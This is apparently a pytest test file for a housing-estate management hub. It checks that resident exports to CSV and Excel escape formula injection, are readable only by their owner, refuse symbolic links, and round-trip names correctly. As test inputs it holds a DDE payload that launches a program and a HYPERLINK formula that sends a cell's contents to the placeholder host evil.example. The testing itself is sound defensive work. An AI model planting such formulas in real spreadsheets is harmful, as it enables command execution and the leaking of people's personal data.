"""The export as the office opens it: text only (no cell runs as a formula in Excel or WPS),
readable by the hub's user only, and read back in to the same names."""
from __future__ import annotations

import csv
import os
import stat
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.integrations.residents.sample import CONFIG
from xiaoqu.core.auth import Actor, get_access
from xiaoqu.core.auth.control import RemoteCommands, socket_path
from xiaoqu.core.bus import Context
from xiaoqu.core.testing import running_hub
from xiaoqu.integrations.residents.sheet import read_sheet, write_sheet

FORMULA = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&F2,"click")'
NAMES = (FORMULA, HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "王芳")


async def _export_both(tmp_path: Path, clock, names: tuple[str, ...]) -> tuple[Path, Path]:
    """Persons with ``names`` exported unmasked, through the running hub, as .csv and .xlsx."""
    async with running_hub(tmp_path, CONFIG, clock=clock) as hub:
        user = await get_access(hub).manager.add_user("manager1", "manager", None, Actor("hub"))
        manager = Context(user_id=user.id, source="api")
        await hub.services.call("residents", "add_household", {"id": "1-1-0101"}, context=manager)
        for name in names:
            await hub.services.call("residents", "add_person", {"household": "1-1-0101", "role": "family",
                                                                "name": name, "phone": "13912345678"},
                                    context=manager)
        remote = RemoteCommands(socket_path(hub.config.data_dir))
        out_csv, out_xlsx = tmp_path / "out.csv", tmp_path / "out.xlsx"
        for path in (out_csv, out_xlsx):
            await remote.call("residents_export", path=str(path), unmasked=True)
    return out_csv, out_xlsx


@pytest.fixture
def open_umask():
    """The umask most desktops run with, under which a plain open() makes a 0644 file."""
    old = os.umask(0o022)
    yield
    os.umask(old)


async def test_an_export_holds_no_formula_and_only_its_owner_may_read_it(tmp_path, clock, open_umask) -> None:
    out_csv, out_xlsx = await _export_both(tmp_path, clock, NAMES)
    cells = {row[5] for row in csv.reader(out_csv.read_text(encoding="utf-8-sig").splitlines())}
    assert {f"'{FORMULA}", f"'{HYPERLINK}", "'+1+1", "'-2+3", "'@SUM(1)", "王芳"} <= cells
    assert "13912345678" in out_csv.read_text(encoding="utf-8-sig")  # unmasked, as asked
    book = load_workbook(out_xlsx)
    kinds = {cell.value: cell.data_type for row in book.active.iter_rows() for cell in row if cell.value}
    assert {kinds[name] for name in NAMES} == {"s"}
    with zipfile.ZipFile(out_xlsx) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    assert stat.S_IMODE(out_csv.stat().st_mode) == stat.S_IMODE(out_xlsx.stat().st_mode) == 0o600


async def test_an_export_reads_back_to_the_names_it_was_given(tmp_path, clock) -> None:
    out_csv, out_xlsx = await _export_both(tmp_path, clock, (FORMULA, "-2+3", "王芳"))
    for path in (out_csv, out_xlsx):
        assert sorted(row["name"] for _n, row in read_sheet(path).rows) == sorted((FORMULA, "-2+3", "王芳"))


def test_an_export_over_a_wider_file_narrows_it_and_refuses_a_link(tmp_path, open_umask) -> None:
    old = tmp_path / "old.csv"
    old.write_text("left by hand\n")
    old.chmod(0o644)
    assert write_sheet(old, [{"household": "1-1-0101"}]) == 1
    assert stat.S_IMODE(old.stat().st_mode) == 0o600 and "left by hand" not in old.read_text(encoding="utf-8-sig")
    link = tmp_path / "link.xlsx"
    link.symlink_to(tmp_path / "elsewhere.xlsx")
    with pytest.raises(Exception, match="symbolic link"):
        write_sheet(link, [{"household": "1-1-0101"}])
    assert not (tmp_path / "elsewhere.xlsx").exists()


def test_a_csv_cell_starting_with_a_tab_or_carriage_return_is_text_too(tmp_path) -> None:
    path = tmp_path / "out.csv"
    write_sheet(path, [{"household": "1-1-0101", "name": "\t=1+1", "plate": "\r=2+2"}],
                columns=("household", "name", "plate"))
    with path.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file))[1] == ["1-1-0101", "'\t=1+1", "'\r=2+2"]
